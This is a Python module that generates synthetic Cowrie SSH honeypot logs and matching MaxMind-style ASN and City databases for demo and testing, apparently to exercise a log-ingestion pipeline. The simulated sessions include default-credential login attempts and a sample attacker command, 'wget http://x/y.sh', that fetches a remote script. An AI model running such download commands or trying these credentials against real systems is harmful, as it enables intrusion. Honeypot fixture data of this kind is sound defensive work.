"""Demo data: a week of Cowrie logs from two sensors and MaxMind-shaped databases to match.

The ASNs are the documentation ranges (RFC 5398: AS64496-64511, AS65536-65551) mapped onto public
address space, so nothing here claims a real network's identity. Deterministic for a given seed.
"""

from __future__ import annotations

import datetime as dt
import gzip
import random
from collections.abc import Iterable
from dataclasses import dataclass
from pathlib import Path

import orjson
from mmdb_writer import MmdbU32, MMDBWriter
from netaddr import IPSet

DEMO_DAYS = tuple(dt.date(2026, 11, 14) + dt.timedelta(days=i) for i in range(7))
SENSORS = ("sensor-ams", "sensor-sgp")
GZIPPED_DAY = DEMO_DAYS[2]

_ORGANIZATIONS = (
    "Example Cloud Hosting",
    "Example Broadband Telecom",
    "Example Mobile Networks",
    "Example Datacenter Services",
    "Example University Network",
    "Example VPS Provider",
    "Example Backbone Transit",
    "Example Residential ISP",
)
_COUNTRIES = ("NL", "SG", "US", "CN", "BR", "DE", "IN", "RU", "VN", "KR")


@dataclass(frozen=True)
class Network:
    """One network of a demo or test database."""

    cidr: str
    asn_number: int
    organization_name: str
    country: str


def write_asn_mmdb(path: Path, networks: Iterable[Network], database_type: str = "GeoLite2-ASN"):
    """Write a GeoLite2-ASN-shaped ``.mmdb`` (IPv6 tree, IPv4 mapped in) with mmdb-writer."""
    writer = MMDBWriter(ip_version=6, database_type=database_type, ipv4_compatible=True)
    for net in networks:
        writer.insert_network(
            IPSet([net.cidr]),
            {
                "autonomous_system_number": MmdbU32(net.asn_number),
                "autonomous_system_organization": net.organization_name,
            },
        )
    path.parent.mkdir(parents=True, exist_ok=True)
    writer.to_db_file(str(path))


def write_city_mmdb(path: Path, networks: Iterable[Network], database_type: str = "GeoLite2-City"):
    """Write a GeoLite2-City-shaped ``.mmdb`` holding the country of each network."""
    writer = MMDBWriter(ip_version=6, database_type=database_type, ipv4_compatible=True)
    for net in networks:
        writer.insert_network(
            IPSet([net.cidr]),
            {"country": {"iso_code": net.country, "names": {"en": net.country}}},
        )
    path.parent.mkdir(parents=True, exist_ok=True)
    writer.to_db_file(str(path))


def demo_networks() -> list[Network]:
    """32 documentation ASNs over public IPv4 /16s and IPv6 /32s."""
    asns = [*range(64496, 64512), *range(65536, 65552)]
    networks = []
    for i, asn in enumerate(asns):
        org = f"{_ORGANIZATIONS[i % len(_ORGANIZATIONS)]} {i // len(_ORGANIZATIONS) + 1}"
        country = _COUNTRIES[i % len(_COUNTRIES)]
        networks.append(Network(f"{45 + i}.{10 + i}.0.0/16", asn, org, country))
        if i % 4 == 0:
            networks.append(Network(f"2a0{i % 10}:{0x1000 + i:x}::/32", asn, org, country))
    return networks


def generate(
    directory: Path, seed: int = 2026, days: tuple[dt.date, ...] = DEMO_DAYS
) -> dict[str, Path]:
    """Write the demo landing directory and databases under ``directory``; return their paths."""
    rng = random.Random(seed)
    networks = demo_networks()
    paths = {
        "landing": directory / "landing",
        "asn_db": directory / "demo-asn.mmdb",
        "city_db": directory / "demo-city.mmdb",
    }
    write_asn_mmdb(paths["asn_db"], networks)
    write_city_mmdb(paths["city_db"], networks)

    attackers = _attackers(rng, networks)
    ipv4_mapped = "::ffff:" + next(ip for ip, _ in attackers if ":" not in ip)
    lines: dict[tuple[str, dt.date], list[bytes]] = {(s, d): [] for s in SENSORS for d in days}
    for day in days:
        for n in range(rng.randint(220, 320)):
            ip = rng.choices(attackers, weights=[w for _, w in attackers])[0][0]
            ip = ipv4_mapped if n == 0 else ip  # a dual-stack listener logs IPv4 like this
            sensor = rng.choice(SENSORS)
            start = dt.datetime.combine(day, dt.time(), dt.UTC) + dt.timedelta(
                seconds=rng.uniform(0, 86_399)
            )
            if day != days[-1] and rng.random() < 0.03:  # spans midnight
                start = dt.datetime.combine(day, dt.time(23, 59, 30), dt.UTC)
            for event in _session_events(rng, sensor, ip, start):
                event_day = dt.date.fromisoformat(event["timestamp"][:10])
                if event_day in days:
                    lines[(sensor, event_day)].append(orjson.dumps(event))

    for (sensor, day), day_lines in lines.items():
        if sensor == SENSORS[0]:
            day_lines[len(day_lines) // 3 : len(day_lines) // 3] = _malformed_lines(day)
        day_lines.sort(key=_timestamp_or_keep)
        folder = paths["landing"] / sensor
        folder.mkdir(parents=True, exist_ok=True)
        name = f"cowrie.json.{day.isoformat()}"
        body = b"\n".join(day_lines) + b"\n"
        if day == GZIPPED_DAY:
            (folder / f"{name}.gz").write_bytes(gzip.compress(body, mtime=0))
        else:
            (folder / name).write_bytes(body)
    return paths


def _attackers(rng: random.Random, networks: list[Network]) -> list[tuple[str, float]]:
    """Source addresses with a heavy-tailed weight: a few scanners make most sessions."""
    addresses = []
    for _ in range(260):
        net = rng.choice(networks)
        if ":" in net.cidr:
            prefix = net.cidr.split("::")[0]
            ip = f"{prefix}:{rng.randint(1, 0xFFFF):x}::{rng.randint(1, 0xFFFF):x}"
        else:
            a, b = net.cidr.split(".")[:2]
            ip = f"{a}.{b}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"
        addresses.append(ip)
    addresses += [
        f"198.{rng.randint(60, 90)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"
    ]  # no ASN
    addresses += ["192.168.1.23", "10.4.0.7", "100.64.12.9", "fe80::1c2d:3eff:fe4f:5a6b"]  # bogons
    return [(ip, rng.paretovariate(1.2)) for ip in addresses]


def _session_events(
    rng: random.Random, sensor: str, ip: str, start: dt.datetime
) -> list[dict[str, object]]:
    session = f"{rng.getrandbits(48):012x}"
    moment = start
    base = {"sensor": sensor, "src_ip": ip, "session": session}

    def event(eventid: str, **fields: object) -> dict[str, object]:
        nonlocal moment
        moment += dt.timedelta(seconds=rng.uniform(0.05, 8.0))
        stamp = moment.strftime("%Y-%m-%dT%H:%M:%S.%fZ")
        return {"eventid": eventid, **fields, **base, "timestamp": stamp}

    events = [
        event(
            "cowrie.session.connect",
            src_port=rng.randint(1024, 65535),
            dst_ip="203.0.113.10",
            dst_port=22,
            protocol="ssh",
            message=f"New connection: {ip}",
        ),
        event("cowrie.client.version", version="SSH-2.0-Go", message="Remote SSH version"),
    ]
    for _ in range(rng.randint(1, 6)):
        user, password = (
            rng.choice(["root", "admin", "ubuntu", "pi"]),
            rng.choice(["123456", "password", "admin", "raspberry", "P@ssw0rd"]),
        )
        events.append(
            event(
                "cowrie.login.failed",
                username=user,
                password=password,
                message=f"login attempt [{user}/{password}] failed",
            )
        )
    if rng.random() < 0.3:
        events.append(event("cowrie.login.success", username="root", password="admin"))
        for command in rng.sample(["uname -a", "cat /proc/cpuinfo", "wget http://x/y.sh"], 2):
            events.append(event("cowrie.command.input", input=command, message=f"CMD: {command}"))
    events.append(event("cowrie.session.closed", duration=12.5, message="Connection lost"))
    return events


def _malformed_lines(day: dt.date) -> list[bytes]:
    stamp = f"{day.isoformat()}T12:00:00.000000Z"
    return [
        b'{"eventid": "cowrie.session.connect", "src_ip": "45.1',  # truncated JSON
        b"\xff\xfe not utf-8 at all",
        orjson.dumps(
            {"eventid": "cowrie.login.failed", "session": "0badc0ffee00", "timestamp": stamp}
        ),
        orjson.dumps({"eventid": "x", "src_ip": "999.1.2.3", "session": "1", "timestamp": stamp}),
    ]


def _timestamp_or_keep(line: bytes) -> str:
    try:
        return orjson.loads(line).get("timestamp", "")
    except (orjson.JSONDecodeError, AttributeError):
        return ""
